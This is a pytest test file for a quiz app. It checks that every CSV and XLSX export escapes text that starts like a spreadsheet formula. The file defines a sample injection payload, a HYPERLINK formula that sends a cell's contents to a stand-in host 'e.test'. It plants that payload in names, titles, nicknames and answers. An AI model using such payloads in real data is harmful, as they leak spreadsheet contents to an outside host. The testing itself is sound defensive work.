"""Every CSV and XLSX download neutralises text a spreadsheet would run as a formula (issue 9)."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from quizapp.core.spreadsheets import FORMULA_START, csv_text, neutralise, xlsx_bytes
from quizapp.extensions import db
from quizapp.models import LiveAnswer, LiveParticipant
from tests import factories
from tests.reports.conftest import add_live_session

EVIL = '=HYPERLINK("http://e.test/?"&A1,"x")'  # fits a 40-character nickname


@pytest.mark.parametrize("start", FORMULA_START)
def test_text_starting_like_a_formula_gets_an_apostrophe(start):
    assert neutralise(f"{start}1+1") == f"'{start}1+1"
    assert list(csv.reader(io.StringIO(csv_text(["a"], [[f"{start}1"]]))))[1] == [f"'{start}1"]


def test_plain_text_numbers_and_dates_are_left_alone():
    assert neutralise("Ana") == "Ana"
    assert neutralise(-3) == -3
    assert csv_text(["n"], [[-0.5]], convert=lambda v: f"{v:.1f}").splitlines()[1] == "-0.5"
    book = load_workbook(io.BytesIO(xlsx_bytes([("S", ["n", "t"], [[-1, EVIL]])])))
    assert [c.value for c in book.active[2]] == [-1, "'" + EVIL]


@pytest.fixture
def evil_world(world):
    """The cohort, a learner's name, an assignment and a live nickname all carry a formula."""
    learner = world.learners[0]
    world.cohort.name = EVIL
    learner.display_name = EVIL
    assignment = factories.make_assignment(world.cohort, title=EVIL)
    for other in world.learners[:3]:
        factories.make_scored_attempt(
            other,
            [(item, 1.0 if other is learner else 0.0) for item in world.items],
            assignment=assignment,
        )
    session = add_live_session(world.trainer, world.cohort, world.items[:1], [[True]])
    session.title = EVIL
    participant = LiveParticipant(
        session_id=session.id, nickname=EVIL, token="tok-evil", user_id=learner.id
    )
    db.session.add(participant)
    db.session.flush()
    db.session.add(
        LiveAnswer(
            session_id=session.id,
            participant_id=participant.id,
            question_index=0,
            item_id=world.items[0].id,
            answer=EVIL,
            correct=False,
            points=0,
        )
    )
    db.session.commit()
    return world, learner, session


def _cells(response) -> list[str]:
    """Every cell of a CSV or XLSX download, as text."""
    assert response.status_code == 200, response.status_code
    if response.mimetype == "text/csv":
        return [c for row in csv.reader(io.StringIO(response.get_data(as_text=True))) for c in row]
    book = load_workbook(io.BytesIO(response.data))
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a formula cell"
    return [str(c.value) for c in cells if c.value is not None]


def _assert_neutralised(response) -> None:
    cells = _cells(response)
    assert "'" + EVIL in cells
    assert not [c for c in cells if c.startswith(FORMULA_START)]


def test_learner_own_exports_are_neutralised(client, auth, evil_world):
    _world, learner, _session = evil_world
    auth.login(learner.email)
    for path in (
        "/account/export/memberships.csv",
        "/account/export/live_answers.csv",
        f"/reports/learners/{learner.id}/assignments.csv",
        f"/reports/learners/{learner.id}.xlsx",
    ):
        _assert_neutralised(client.get(path))


def test_trainer_exports_are_neutralised(client, auth, evil_world):
    world, learner, session = evil_world
    auth.login("trainer@example.org")
    for path in (
        f"/reports/cohorts/{world.cohort.id}/learners.csv",
        f"/reports/cohorts/{world.cohort.id}.xlsx",
        f"/reports/learners/{learner.id}/assignments.csv",
        f"/reports/learners/{learner.id}.xlsx",
        "/reports/items/tests.csv?live=y",
        "/reports/items.xlsx?live=y",
        f"/live/{session.id}/report.csv",
    ):
        _assert_neutralised(client.get(path))
